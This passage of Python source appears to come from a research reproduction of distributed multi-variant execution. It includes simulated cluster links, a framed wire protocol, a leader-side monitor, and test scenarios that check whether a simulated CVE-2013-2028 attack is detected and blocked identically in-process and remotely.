                        record: bool = False) -> Dict:
    """Fire CVE-2013-2028 at the distributed deployment; the verdict
    must come back from the remote monitor before mkdir executes."""
    from repro.attacks import run_exploit
    from repro.attacks.cve_2013_2028 import VICTIM_DIRECTORY

    run = build_minx_cluster(seed=seed, latency_ns=latency_ns,
                             record=record)
    outcome = run_exploit(run.leader)
    traces = run.finish()
    alarm = run.leader.alarms.alarms[0] if run.leader.alarms.alarms \
        else None
    return {
        "run": run,
        "outcome": outcome,
        "traces": traces,
        "alarm": alarm,
        "directory_created":
            run.cluster.host(0).kernel.vfs.is_dir(VICTIM_DIRECTORY),
    }


def run_inprocess_cve(seed: str = "smvx-cluster") -> Dict:
    """The single-host §4.2 experiment, seeded like host 0 of the
    cluster so both deployments see the same leader kernel stream."""
    from repro.apps.minx import MinxServer
    from repro.attacks import run_exploit
    from repro.attacks.cve_2013_2028 import VICTIM_DIRECTORY
    from repro.kernel.kernel import Kernel

    kernel = Kernel(seed=f"{seed}/host0")
    server = MinxServer(kernel, protect=MINX_PROTECT, smvx=True)
    server.start()
    outcome = run_exploit(server)
    alarm = server.alarms.alarms[0] if server.alarms.alarms else None
    return {"outcome": outcome, "alarm": alarm,
            "directory_created": kernel.vfs.is_dir(VICTIM_DIRECTORY)}


def compare_cve_alarms(seed: str = "smvx-cluster",
                       latency_ns: float = 100_000) -> Dict:
    """The acceptance check: remote monitoring must localize the attack
    exactly like in-process monitoring — same divergence kind, same
    libc call, same guest PC (the leader-space gadget address)."""
    local = run_inprocess_cve(seed)
    distributed = run_distributed_cve(seed, latency_ns)
    fields = {}
    for name in ("kind", "seq", "libc_name", "guest_pc", "task_id"):
        want = getattr(local["alarm"], name, None)
        got = getattr(distributed["alarm"], name, None)
        fields[name] = {"in_process": _plain(want),
                        "distributed": _plain(got),
                        "match": want == got}
    return {
        "match": all(f["match"] for f in fields.values())
        and not local["directory_created"]
        and not distributed["directory_created"],
        "fields": fields,
        "in_process_blocked": not local["directory_created"],
        "distributed_blocked": not distributed["directory_created"],
    }


def _plain(value):
    return getattr(value, "name", value)


def run_distributed_ab(seed: str = "smvx-cluster",
                       latency_ns: float = 100_000, requests: int = 4,
                       fault_schedule: Optional[FaultSchedule] = None,
                       record: bool = False) -> Dict:
    """Benign traffic against distributed minx; every request opens a
    region whose events cross the wire."""
    from repro.workloads.ab import ApacheBench

    run = build_minx_cluster(seed=seed, latency_ns=latency_ns,
                             record=record,
                             fault_schedule=fault_schedule)
    result = ApacheBench(run.cluster.host(0).kernel, run.leader).run(
        requests)
    traces = run.finish()
    return {"run": run, "result": result, "traces": traces,
            "alarms": len(run.leader.alarms.alarms)}


def run_link_battery(seed: str = "smvx-cluster",
                     latency_ns: float = 100_000,
                     requests: int = 3) -> List[Dict]:
    """Every battery schedule's link faults against distributed minx.
    Link faults are latency-only, so each entry must complete all
    requests with zero (spurious) divergences."""
    from repro.kernel.faults import battery

    results = []
    for schedule in battery():
        session = run_distributed_ab(seed=f"{seed}/{schedule.name}",
                                     latency_ns=latency_ns,
                                     requests=requests,
                                     fault_schedule=schedule)
        injected = {}
        for link in session["run"].cluster.links.values():
            for kind, count in link.faults.injected_by_kind.items():
                injected[kind] = injected.get(kind, 0) + count
        results.append({
            "schedule": schedule.name,
            "completed": session["result"].status_counts.get(200, 0),
            "requested": requests,
            "alarms": session["alarms"],
            "link_faults": injected,
        })
    return results


def replay_cluster(seed: str = "smvx-cluster",
                   latency_ns: float = 100_000,
                   requests: int = 3) -> Dict:
    """Record a cluster session, then re-derive it from the seeds and
    compare every host's footer pins plus the causally-merged order."""
    from repro.trace.replay import _diff_footers

    def session() -> List[Trace]:
        run = build_minx_cluster(seed=seed, latency_ns=latency_ns,
                                 record=True)
        from repro.workloads.ab import ApacheBench
        ApacheBench(run.cluster.host(0).kernel, run.leader).run(requests)
        return run.finish()

    recorded = session()
    replayed = session()
    problems: List[str] = []
    for host_id, (want, got) in enumerate(zip(recorded, replayed)):
        problems.extend(f"host{host_id}.{p}" for p in
                        _diff_footers(want.footer, got.footer))
    digest_a = merge_digest(merge_traces(recorded))
    digest_b = merge_digest(merge_traces(replayed))
    if digest_a != digest_b:
        problems.append(f"merged order diverged: {digest_a[:16]} "
                        f"!= {digest_b[:16]}")
    return {"ok": not problems, "problems": problems,
            "traces": recorded, "merged_digest": digest_a}
