"""repro.cluster — distributed sMVX over a simulated multi-host cluster.

Each host is a full :class:`~repro.kernel.kernel.Kernel` (own seed, own
virtual clock, own fault plane); hosts exchange length-prefixed wire
frames over seeded, fault-injectable links.  On top rides the dMVX
deployment of selective MVX: the leader application on host 0, lockstep
variants and their monitors on other hosts, with only
protected-region events crossing the network.
"""

from repro.cluster.host import Cluster, ClusterHost, WireEndpoint
from repro.cluster.link import ClusterLink, PendingFrame
from repro.cluster.remote import (
    DEFAULT_SENSITIVE,
    DistributedLeaderMonitor,
    DistributedSmvx,
    RemoteRegionRunner,
)
from repro.cluster.wire import BatchRing, FrameDecoder, encode_frame

__all__ = [
    "BatchRing",
    "Cluster",
    "ClusterHost",
    "ClusterLink",
    "DEFAULT_SENSITIVE",
    "DistributedLeaderMonitor",
    "DistributedSmvx",
    "FrameDecoder",
    "PendingFrame",
    "RemoteRegionRunner",
    "WireEndpoint",
    "encode_frame",
]
