"""Simulated inter-host network links.

A :class:`ClusterLink` is one *directed* pipe between two hosts.  It is
a reliable, in-order transport (TCP-like) with a base propagation
latency; loss, reordering, extra queueing delay, and transient
partitions are injected by the link's own seeded
:class:`~repro.kernel.faults.FaultPlane` and are all *latency-only*:

* **delay** — a frame waits ``link_delay_ns`` longer in a queue;
* **drop** — the first transmission is lost and the retransmit lands one
  ``link_rto_ns`` later (the payload still arrives intact);
* **reorder** — a frame is overtaken in flight and arrives
  ``link_reorder_ns`` late; the receiver's in-order delivery then holds
  every later frame behind it (``deliver_at`` is monotonic per link);
* **partition** — every Nth frame hits a transient partition and waits
  ``link_partition_ns`` for it to heal.

Because content is never lost or corrupted and delivery order per link
is preserved, link faults can delay verdicts but can never manufacture
a divergence — the zero-spurious-divergence property the battery test
asserts.

Each link owns its own fault plane seeded ``{cluster seed}/link/{name}``,
so link draws never perturb either host's syscall fault stream, and a
replay reproduces the exact same frame timings bit-for-bit.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.kernel.faults import FaultPlane, FaultSchedule


@dataclass
class PendingFrame:
    """One frame in flight: delivery time plus the raw bytes."""

    deliver_at: float
    link: "ClusterLink"
    seq: int
    payload: bytes
    lamport: int


class ClusterLink:
    """A directed host-to-host pipe with deterministic fault timing."""

    def __init__(self, cluster, src: int, dst: int,
                 latency_ns: float = 100_000,
                 seed: "str | bytes" = b"smvx-cluster"):
        self.cluster = cluster
        self.src = src
        self.dst = dst
        self.name = f"h{src}->h{dst}"
        self.latency_ns = latency_ns
        if isinstance(seed, bytes):
            seed = seed.decode()
        self.faults = FaultPlane(f"{seed}/link/{self.name}")
        #: receiver callback: fn(batch_dict, deliver_at_ns), installed by
        #: the endpoint living on the destination host.
        self.on_frame = None
        self.frames_sent = 0
        self.bytes_sent = 0
        self._last_delivery = 0.0

    def install(self, schedule: Optional[FaultSchedule]) -> None:
        self.faults.install(schedule)

    def transmit(self, payload: bytes, now: float, lamport: int
                 ) -> PendingFrame:
        """Compute the frame's delivery time and queue it with the
        cluster; the sender charges its own wire costs separately."""
        self.frames_sent += 1
        self.bytes_sent += len(payload)
        extra = self.faults.link_frame(self.name, self.frames_sent,
                                       len(payload))
        arrival = now + self.latency_ns + extra
        # reliable in-order delivery: nothing overtakes an earlier frame
        deliver_at = max(arrival, self._last_delivery)
        self._last_delivery = deliver_at
        frame = PendingFrame(deliver_at, self, self.frames_sent,
                             payload, lamport)
        self.cluster.enqueue(frame)
        return frame
