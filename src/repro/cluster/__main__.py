"""Command-line front end for distributed sMVX.

::

    python -m repro.cluster demo --requests 4
    python -m repro.cluster attack
    python -m repro.cluster record /tmp/cluster --requests 3
    python -m repro.cluster replay --requests 3
    python -m repro.cluster battery
    python -m repro.cluster bench --requests 8

``attack`` exits non-zero if the distributed deployment localizes the
CVE-2013-2028 alarm differently from the in-process one (different
kind, libc call, or guest PC) — the CI cluster-smoke gate.  ``replay``
exits non-zero if a re-derived cluster run is not bit-identical to the
recorded one (per-host footer pins + merged causal order).
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.cluster.scenarios import (
    compare_cve_alarms,
    replay_cluster,
    run_distributed_ab,
    run_link_battery,
)
from repro.trace.merge import merge_summary, merge_traces


def _cmd_demo(args) -> int:
    if args.app == "littled":
        from repro.cluster.scenarios import build_littled_cluster
        from repro.workloads import ApacheBench

        run = build_littled_cluster(seed=args.seed,
                                    latency_ns=args.latency_ns,
                                    workers=args.workers)
        result = ApacheBench(run.cluster.host(0).kernel, run.leader).run(
            args.requests, concurrency=min(args.requests, 4))
        run.leader.shutdown()
        run.finish()
        session = {"result": result, "run": run,
                   "alarms": len(run.leader.alarms.alarms)}
        print(f"scheduled serving: {result.workers} workers, "
              f"concurrency {result.concurrency}, "
              f"sched {result.sched_status!r}")
    else:
        session = run_distributed_ab(seed=args.seed,
                                     latency_ns=args.latency_ns,
                                     requests=args.requests)
    result, run = session["result"], session["run"]
    cluster = run.cluster
    print(f"served {result.requests_completed}/{args.requests} requests "
          f"({result.status_counts}), {session['alarms']} alarms")
    monitor = run.dsmvx.monitor
    print(f"regions: {monitor.stats.regions_entered}, leader calls "
          f"shipped: {monitor.stats.leader_calls}")
    for (src, dst), link in sorted(cluster.links.items()):
        print(f"link h{src}->h{dst}: {link.frames_sent} frames, "
              f"{link.bytes_sent} bytes")
    print(f"host clocks: " + ", ".join(
        f"h{h.host_id}={h.clock.monotonic_ns:,.0f}ns"
        for h in cluster.hosts))
    return 0 if result.failures == 0 and session["alarms"] == 0 else 1


def _cmd_attack(args) -> int:
    comparison = compare_cve_alarms(seed=args.seed,
                                    latency_ns=args.latency_ns)
    print(json.dumps(comparison, indent=2, default=str))
    if not comparison["match"]:
        print("ALARM LOCATION MISMATCH between in-process and "
              "distributed runs", file=sys.stderr)
        return 1
    print("distributed monitor localized the attack identically "
          "(same kind, call, guest PC) and blocked it")
    return 0


def _cmd_record(args) -> int:
    from repro.cluster.scenarios import build_minx_cluster
    from repro.workloads import ApacheBench

    run = build_minx_cluster(seed=args.seed, latency_ns=args.latency_ns,
                             record=True)
    ApacheBench(run.cluster.host(0).kernel, run.leader).run(args.requests)
    traces = run.finish()
    paths = []
    for trace in traces:
        path = f"{args.prefix}.host{trace.footer['host_id']}.json"
        trace.save(path)
        paths.append(path)
    merged = merge_traces(traces)
    summary = merge_summary(merged)
    merged_path = f"{args.prefix}.merged.json"
    with open(merged_path, "w") as fh:
        json.dump({"summary": summary, "events": merged}, fh, indent=1)
        fh.write("\n")
    print(f"recorded {len(traces)} host traces -> {', '.join(paths)}")
    print(f"merged {summary['events']} events "
          f"(lamport max {summary['lamport_max']}) -> {merged_path}")
    print(f"merged digest: {summary['digest']}")
    return 0


def _cmd_replay(args) -> int:
    outcome = replay_cluster(seed=args.seed, latency_ns=args.latency_ns,
                             requests=args.requests)
    if outcome["ok"]:
        print(f"replay bit-identical on every host; merged digest "
              f"{outcome['merged_digest'][:16]}...")
        return 0
    for problem in outcome["problems"]:
        print(f"MISMATCH: {problem}", file=sys.stderr)
    return 1


def _cmd_battery(args) -> int:
    rows = run_link_battery(seed=args.seed, latency_ns=args.latency_ns,
                            requests=args.requests)
    failed = False
    for row in rows:
        ok = row["alarms"] == 0 and row["completed"] == row["requested"]
        failed = failed or not ok
        print(f"{row['schedule']:<18} completed "
              f"{row['completed']}/{row['requested']}  alarms "
              f"{row['alarms']}  link faults {row['link_faults']}")
    if failed:
        print("battery produced spurious divergences or lost requests",
              file=sys.stderr)
        return 1
    print("link-fault battery: zero spurious divergences")
    return 0


def _cmd_bench(args) -> int:
    rows = []
    for latency_ns in (args.latency_ns, args.latency_ns * 10):
        session = run_distributed_ab(seed=args.seed,
                                     latency_ns=latency_ns,
                                     requests=args.requests)
        result = session["result"]
        rows.append({
            "latency_ns": latency_ns,
            "busy_per_request_ns": round(result.busy_per_request_ns, 1),
            "wall_per_request_ns": round(result.wall_per_request_ns, 1),
            "alarms": session["alarms"],
        })
    print(json.dumps(rows, indent=2))
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.cluster",
        description="drive distributed sMVX on the simulated cluster")
    parser.add_argument("--seed", default="smvx-cluster")
    parser.add_argument("--latency-ns", dest="latency_ns", type=float,
                        default=100_000,
                        help="base link latency in virtual ns")
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("demo", help="serve benign traffic distributed")
    p.add_argument("--requests", type=int, default=4)
    p.add_argument("--app", choices=("minx", "littled"), default="minx",
                   help="littled = pre-forked workers under the "
                        "deterministic scheduler, mirrored per worker")
    p.add_argument("--workers", type=int, default=2,
                   help="worker count for --app littled")
    p.set_defaults(func=_cmd_demo)

    p = sub.add_parser("attack",
                       help="CVE-2013-2028 in-process vs distributed; "
                            "fail on alarm-location mismatch")
    p.set_defaults(func=_cmd_attack)

    p = sub.add_parser("record",
                       help="record a cluster run: one trace per host "
                            "plus the causal merge")
    p.add_argument("prefix", help="output path prefix")
    p.add_argument("--requests", type=int, default=3)
    p.set_defaults(func=_cmd_record)

    p = sub.add_parser("replay",
                       help="re-derive a recorded run from seeds; fail "
                            "unless bit-identical per host and merged")
    p.add_argument("--requests", type=int, default=3)
    p.set_defaults(func=_cmd_replay)

    p = sub.add_parser("battery",
                       help="link-fault battery; fail on any spurious "
                            "divergence")
    p.add_argument("--requests", type=int, default=3)
    p.set_defaults(func=_cmd_battery)

    p = sub.add_parser("bench", help="leader overhead at 2 latencies")
    p.add_argument("--requests", type=int, default=8)
    p.set_defaults(func=_cmd_bench)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
