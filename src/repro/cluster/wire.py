"""Length-prefixed wire protocol for inter-host sMVX traffic.

A *frame* is one batch of protocol messages crossing a
:class:`~repro.cluster.link.ClusterLink`:

``<u32 little-endian payload length> <payload>``

where the payload is canonical JSON (sorted keys, no whitespace) of::

    {"lamport": L, "seq": k, "chan": c, "msgs": [...]}

``lamport`` is the sender's Lamport clock stamped at flush time, ``seq``
the per-link frame number, ``chan`` the leader/mirror pair the batch
belongs to (multi-worker servers multiplex every pair over one link
pair).  ``msgs`` carries the region protocol:

====================  ====================================================
``region_start``      root function, args, page deltas, heap bookkeeping
``call``              one :class:`~repro.core.ipc.CallEvent`, already
                      executed by the leader (relaxed lockstep)
``sync``              a sensitive call announced *before* execution; the
                      leader blocks for the remote ``verdict``
``result``            the executed sensitive call's retval/buffers,
                      releasing the parked remote follower
``region_end``        close of the protected region
``verdict``           remote monitor's answer: ok, or a serialized
                      :class:`~repro.core.divergence.DivergenceReport`
====================  ====================================================

Outbound messages accumulate in a per-link :class:`BatchRing` and are
flushed on protected-region boundaries (region start/end), at sensitive
sync points, and when the ring fills — the dMVX batching discipline:
only events inside sMVX-selected regions ever cross the network.
"""

from __future__ import annotations

import json
import struct
from dataclasses import asdict
from typing import Dict, List, Optional

from repro.core.divergence import DivergenceReport
from repro.core.ipc import CallEvent

_LEN = struct.Struct("<I")

#: a batch ring never buffers more than this many messages before it
#: force-flushes (bounded memory on the wire path, like the event ring).
DEFAULT_RING_CAPACITY = 64


def encode_frame(lamport: int, seq: int, chan: int,
                 msgs: List[Dict]) -> bytes:
    """One length-prefixed frame from a batch of messages."""
    payload = json.dumps(
        {"lamport": lamport, "seq": seq, "chan": chan, "msgs": msgs},
        sort_keys=True, separators=(",", ":")).encode()
    return _LEN.pack(len(payload)) + payload


def decode_payload(payload: bytes) -> Dict:
    return json.loads(payload.decode())


def decode_frame(data: bytes) -> Dict:
    """Decode one complete length-prefixed frame."""
    if len(data) < _LEN.size:
        raise ValueError("truncated frame header")
    (length,) = _LEN.unpack_from(data)
    if len(data) != _LEN.size + length:
        raise ValueError(
            f"frame length mismatch: header says {length}, "
            f"got {len(data) - _LEN.size}")
    return decode_payload(data[_LEN.size:])


class FrameDecoder:
    """Incremental decoder: feed raw bytes, get complete batches out.

    Frames on a link always arrive whole, but the decoder is written
    against the byte-stream contract so a segmented transport would work
    too."""

    def __init__(self) -> None:
        self._buffer = b""

    def feed(self, data: bytes) -> List[Dict]:
        self._buffer += data
        batches = []
        while len(self._buffer) >= _LEN.size:
            (length,) = _LEN.unpack_from(self._buffer)
            if len(self._buffer) < _LEN.size + length:
                break
            payload = self._buffer[_LEN.size:_LEN.size + length]
            self._buffer = self._buffer[_LEN.size + length:]
            batches.append(decode_payload(payload))
        return batches

    @property
    def pending_bytes(self) -> int:
        return len(self._buffer)


class BatchRing:
    """Bounded per-link outbox of protocol messages.

    ``append`` returns True when the ring just filled and the owner must
    flush; ``drain`` empties it for framing."""

    def __init__(self, capacity: int = DEFAULT_RING_CAPACITY):
        if capacity <= 0:
            raise ValueError("batch ring capacity must be positive")
        self.capacity = capacity
        self._msgs: List[Dict] = []
        self.appended = 0
        self.flushes = 0

    def append(self, msg: Dict) -> bool:
        self._msgs.append(msg)
        self.appended += 1
        return len(self._msgs) >= self.capacity

    def drain(self) -> List[Dict]:
        msgs, self._msgs = self._msgs, []
        if msgs:
            self.flushes += 1
        return msgs

    def __len__(self) -> int:
        return len(self._msgs)


# -- message constructors ------------------------------------------------------


def region_start_msg(region: int, root: str, args: List[int],
                     pages: List, heap: Dict) -> Dict:
    return {"type": "region_start", "region": region, "root": root,
            "args": list(args), "pages": pages, "heap": heap}


def call_msg(event: CallEvent) -> Dict:
    return {"type": "sync" if event.sync else "call",
            "event": event.to_dict()}


def result_msg(event: CallEvent) -> Dict:
    return {"type": "result", "event": event.to_dict()}


def region_end_msg(region: int) -> Dict:
    return {"type": "region_end", "region": region}


def verdict_msg(region: int, seq: int, ok: bool,
                alarm: Optional[DivergenceReport],
                calls: int = 0) -> Dict:
    return {"type": "verdict", "region": region, "seq": seq, "ok": ok,
            "alarm": report_to_dict(alarm), "calls": calls}


# -- DivergenceReport over the wire --------------------------------------------


def report_to_dict(report: Optional[DivergenceReport]) -> Optional[Dict]:
    if report is None:
        return None
    out = asdict(report)
    out["kind"] = report.kind.name
    out["leader"] = _record_to_dict(report.leader)
    out["follower"] = _record_to_dict(report.follower)
    return out


def report_from_dict(raw: Optional[Dict]) -> Optional[DivergenceReport]:
    if raw is None:
        return None
    from repro.core.divergence import CallRecord, DivergenceKind
    return DivergenceReport(
        DivergenceKind[raw["kind"]], raw["seq"], raw["libc_name"],
        raw["detail"], _record_from_dict(raw["leader"]),
        _record_from_dict(raw["follower"]), raw["task_id"],
        raw["guest_pc"], raw["pid"])


def _record_to_dict(record) -> Optional[Dict]:
    if record is None:
        return None
    return {"seq": record.seq, "name": record.name,
            "args": list(record.args), "variant": record.variant}


def _record_from_dict(raw):
    if raw is None:
        return None
    from repro.core.divergence import CallRecord
    return CallRecord(raw["seq"], raw["name"], tuple(raw["args"]),
                      raw["variant"])
