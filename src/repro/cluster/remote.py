"""Distributed sMVX: leader monitor on host 0, variant + monitor on a
remote host.

This is the dMVX/DMON deployment of the paper's selective MVX: the
production (leader) application runs unmodified on host 0; the lockstep
variant and the monitor that supervises it live on another host.  Only
events inside sMVX-selected regions cross the network, batched on
protected-region boundaries (:mod:`repro.cluster.wire`), and the leader
blocks only at *sensitive* calls — the relaxed-lockstep trade that makes
distributed MVX cheap on the leader's critical path.

Three pieces:

* :class:`DistributedLeaderMonitor` — a :class:`~repro.core.monitor.
  SmvxMonitor` subclass for the leader process.  ``setup()`` is
  inherited wholesale (same GOT interposition, same MPK isolation), but
  region bodies create **no local variant**: every intercepted call is
  executed locally, captured as a :class:`~repro.core.ipc.CallEvent`
  (retval, errno, output-buffer bytes), and posted to the wire batch.
  Sensitive calls ship a ``sync`` announcement first and block for the
  remote verdict *before* executing — CVE-2013-2028's ``mkdir`` never
  runs when the remote follower died on the ROP chain.

* :class:`RemoteRegionRunner` — host 1 side.  A *mirror* of the leader
  process (built by the same constructor, same pid, same layout) carries
  a stock in-process :class:`SmvxMonitor`; the runner applies the
  leader's page/heap deltas, opens a real region (which creates a real
  follower variant), and replays the leader side of the lockstep channel
  from the wire events.  All of §3.3's emulation (buffer copies, epoll
  translation, pointer-return mapping) is reproduced against data that
  came over the wire instead of out of leader memory.

* :class:`DistributedSmvx` — pairs a leader server with its mirror over
  a :class:`~repro.cluster.host.Cluster`, one channel per worker
  process.

**State-sync contract.**  Leader and mirror are built identically (same
images, same pid, therefore the same randomized monitor base and GOT
patches) — the dMVX common checkpoint.  ``checkpoint()`` snapshots the
leader's writable non-monitor pages; each ``region_start`` ships only
pages dirtied since (plus the heap allocator's bookkeeping), so the
mirror's memory equals the leader's at every region entry — which is
exactly the guarantee the in-process follower gets from
``create_follower`` reading local memory.  The mirror's follower view
excludes its own image+heap ranges, so a leaked leader-space pointer
faults at the identical guest PC remotely as in-process.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, replace
from typing import Dict, List, Optional, Sequence, Tuple

from repro.cluster import wire
from repro.cluster.host import Cluster, ClusterHost, WireEndpoint
from repro.core.divergence import CallRecord, DivergenceReport, compare_calls
from repro.core.ipc import LEADER, CallEvent, LibcResult
from repro.core.monitor import SmvxMonitor
from repro.errors import MvxDivergence, MvxSetupError, MvxStateError
from repro.libc.categories import BufSize, Category, EmulationSpec, spec_for
from repro.machine.memory import PAGE_SIZE, PROT_WRITE
from repro.process.context import to_signed
from repro.process.process import GuestProcess, GuestThread

#: calls the leader treats as security-sensitive sync points (dMVX §4:
#: irreversible, externally visible effects).  Deliberately *not* the
#: benign serving path (read/write/epoll), so ordinary requests never
#: pay a round trip.
DEFAULT_SENSITIVE = frozenset(("mkdir", "unlink", "exit", "fork"))


# -- state sync ----------------------------------------------------------------


def _syncable(page) -> bool:
    """Pages worth shipping: writable, non-monitor (pkey 0), and not a
    thread stack — stacks are per-variant state (the in-process follower
    gets a fresh one too; the mirror builds its own at the same base)."""
    return (page.pkey == 0 and (page.prot & PROT_WRITE)
            and not page.tag.startswith("stack:"))


def snapshot_hashes(process: GuestProcess) -> Dict[int, bytes]:
    """Hash every syncable page."""
    hashes: Dict[int, bytes] = {}
    for base, page in process.space.mapped_pages():
        if _syncable(page):
            hashes[base] = hashlib.sha256(bytes(page.data)).digest()
    return hashes


def state_delta(process: GuestProcess,
                hashes: Dict[int, bytes]) -> List[List]:
    """Pages dirtied since the last snapshot, as ``[addr, hexdata]``;
    updates ``hashes`` in place."""
    delta: List[List] = []
    for base, page in process.space.mapped_pages():
        if not _syncable(page):
            continue
        digest = hashlib.sha256(bytes(page.data)).digest()
        if hashes.get(base) != digest:
            hashes[base] = digest
            delta.append([base, bytes(page.data).hex()])
    return delta


def heap_book(process: GuestProcess) -> Dict:
    """The leader heap's allocator metadata, JSON-safe."""
    book = process.heap.clone_bookkeeping(0)
    return {"brk": book["brk"],
            "free": sorted([size, sorted(addrs)]
                           for size, addrs in book["free"].items()),
            "allocated": sorted(book["allocated"].items())}


def adopt_heap_book(process: GuestProcess, raw: Dict) -> None:
    process.heap.adopt_bookkeeping({
        "brk": raw["brk"],
        "free": {size: list(addrs) for size, addrs in raw["free"]},
        "allocated": {addr: size for addr, size in raw["allocated"]}})


def apply_state(process: GuestProcess, pages: List[List],
                heap_raw: Dict) -> None:
    """Write the leader's page delta into the mirror and adopt the heap
    bookkeeping; charged as page-copy work on the mirror's host."""
    for addr, hexdata in pages:
        if not process.space.is_mapped(addr):
            process.space.mmap(addr, PAGE_SIZE, fixed=True,
                               tag="cluster:sync")
        process.space.write(addr, bytes.fromhex(hexdata), privileged=True)
    if pages:
        process.charge(len(pages) * process.costs.page_copy_ns,
                       "cluster-sync")
    adopt_heap_book(process, heap_raw)


# -- leader side ---------------------------------------------------------------


@dataclass
class RemoteRegion:
    """Leader-side book for one open region (no local variant)."""

    root: str
    leader: GuestThread
    number: int
    leader_seq: int = 0


class DistributedLeaderMonitor(SmvxMonitor):
    """The leader-host monitor: same interposition machinery as the
    in-process monitor, but regions replicate to a remote host instead
    of creating a local follower."""

    def __init__(self, process: GuestProcess, host: ClusterHost,
                 endpoint: WireEndpoint, verdicts: Dict,
                 chan: int = 0,
                 sensitive: Optional[Sequence[str]] = None,
                 **kwargs):
        super().__init__(process, **kwargs)
        self.host = host
        self.endpoint = endpoint
        #: shared verdict box, filled by the cluster's leader-side frame
        #: handler: (chan, region, seq) -> (verdict msg, deliver_at_ns).
        self.verdicts = verdicts
        self.chan = chan
        self.sensitive = (DEFAULT_SENSITIVE if sensitive is None
                          else frozenset(sensitive))
        self._region_no = 0
        self._page_hashes: Dict[int, bytes] = {}

    # -- state sync --------------------------------------------------------

    def checkpoint(self) -> None:
        """Record the common starting checkpoint (call once, right after
        both monitors attached and before the leader serves)."""
        self._page_hashes = snapshot_hashes(self.process)

    # -- region lifecycle --------------------------------------------------

    def region_start(self, leader: GuestThread, root_function: str,
                     args: Sequence[int]) -> None:
        if self.region is not None:
            raise MvxStateError("nested mvx_start() is not supported")
        if not self.target.has_symbol(root_function):
            raise MvxSetupError(
                f"protected function {root_function!r} not in profile")
        self.stats.regions_entered += 1
        self._region_no += 1
        pages = state_delta(self.process, self._page_hashes)
        leader.variant = LEADER
        self.region = RemoteRegion(root_function, leader, self._region_no)
        self.endpoint.post(wire.region_start_msg(
            self._region_no, root_function, list(args), pages,
            heap_book(self.process)), self.process)
        # region boundary: flush so the mirror can start duplicating the
        # variant while the leader runs ahead (relaxed lockstep)
        self.endpoint.flush(self.process)

    def region_end(self, leader: GuestThread) -> None:
        region = self.region
        if region is None:
            raise MvxStateError("mvx_end() without an active region")
        if leader is not region.leader:
            raise MvxStateError("mvx_end() from a non-leader thread")
        self.endpoint.post(wire.region_end_msg(region.number),
                           self.process)
        # the close is asynchronous on the leader's wall clock (dMVX:
        # the leader does not wait for the region verdict), but the
        # verdict still gates the region result: a follower fault after
        # the last sync point surfaces here.
        verdict, _ = self._await_verdict(region.number, -1)
        if not verdict["ok"]:
            report = wire.report_from_dict(verdict["alarm"])
            self._teardown_region(alarm=report)
            raise MvxDivergence(report)
        self._teardown_region()

    def abort_region(self, report: DivergenceReport) -> None:
        if self.region is None:
            return
        number = self.region.number
        self.endpoint.post(wire.region_end_msg(number), self.process)
        try:
            self._await_verdict(number, -1)
        except MvxStateError:
            pass
        self._teardown_region(alarm=report)

    def _teardown_region(self,
                         alarm: Optional[DivergenceReport] = None) -> None:
        region, self.region = self.region, None
        if alarm is not None:
            if alarm.pid < 0:
                alarm = replace(alarm, pid=self.process.pid)
            self.alarms.raise_alarm(alarm)
        if region is not None:
            region.leader.variant = "main"

    # -- dispatch ----------------------------------------------------------

    def _dispatch(self, ctx, thread: GuestThread, name: str,
                  args: List[int]) -> int:
        region = self.region
        if region is not None and thread is region.leader:
            return self._leader_call(ctx, thread, name, args)
        self.stats.passthrough_calls += 1
        return self._execute_libc(thread, name, args)

    def _leader_call(self, ctx, thread: GuestThread, name: str,
                     args: List[int]) -> int:
        region = self.region
        spec = spec_for(name) or EmulationSpec(name, Category.LOCAL)
        region.leader_seq += 1
        record = CallRecord(region.leader_seq, name, tuple(args), LEADER)
        self.stats.leader_calls += 1
        for tap in self.call_taps:
            tap(LEADER, record)

        if name in self.sensitive:
            # dMVX sensitive-operation sync point: announce, flush, and
            # block for the remote verdict *before* executing.  The wait
            # is the only per-call wall cost the leader ever pays.
            announce = CallEvent(record.seq, name, record.args, sync=True,
                                 task=thread.tid,
                                 pc=thread.state.regs.rip)
            self.endpoint.post(wire.call_msg(announce), self.process)
            verdict, deliver_at = self._await_verdict(region.number,
                                                      record.seq)
            self.host.clock.advance_to(deliver_at)
            if not verdict["ok"]:
                report = wire.report_from_dict(verdict["alarm"])
                self._teardown_region(alarm=report)
                raise MvxDivergence(report)
            retval = self._execute_libc(thread, name, args)
            event = self._capture(spec, record, retval, thread)
            self.endpoint.post(wire.result_msg(event), self.process)
            return retval

        # relaxed lockstep: execute immediately, ship the outcome
        retval = self._execute_libc(thread, name, args)
        event = self._capture(spec, record, retval, thread)
        self.endpoint.post(wire.call_msg(event), self.process)
        return retval

    def _capture(self, spec: EmulationSpec, record: CallRecord,
                 retval: int, thread: GuestThread) -> CallEvent:
        """Flatten an executed call into a wire event: retval/errno plus
        the bytes of every output buffer the call filled in leader
        memory (the remote monitor writes them into its follower)."""
        execute_locally = spec.category is Category.LOCAL
        buffers: List[Tuple[int, bytes]] = []
        signed = to_signed(retval)
        if not execute_locally and signed >= 0:
            space = self.process.space
            for buffer in spec.out_buffers:
                if buffer.arg_index >= len(record.args):
                    continue
                pointer = record.args[buffer.arg_index]
                if pointer == 0:
                    continue
                if buffer.size is BufSize.RETVAL:
                    size = signed
                elif buffer.size is BufSize.RETVAL_TIMES:
                    size = signed * buffer.fixed_size
                else:
                    size = buffer.fixed_size
                if size <= 0:
                    continue
                if spec.category is Category.SPECIAL \
                        and spec.name == "ioctl" \
                        and not space.is_mapped(pointer):
                    continue
                buffers.append((buffer.arg_index,
                                space.read(pointer, size, privileged=True)))
                self.stats.bytes_copied += size
        if execute_locally:
            self.stats.local_calls += 1
        else:
            self.stats.emulated_calls += 1
        return CallEvent(record.seq, record.name, record.args, retval,
                         thread.errno, execute_locally, tuple(buffers),
                         task=thread.tid, pc=thread.state.regs.rip)

    def _await_verdict(self, region: int, seq: int) -> Tuple[Dict, float]:
        """Flush, then drive the cluster until the verdict lands."""
        self.endpoint.flush(self.process)
        key = (self.chan, region, seq)
        cluster = self.host.cluster
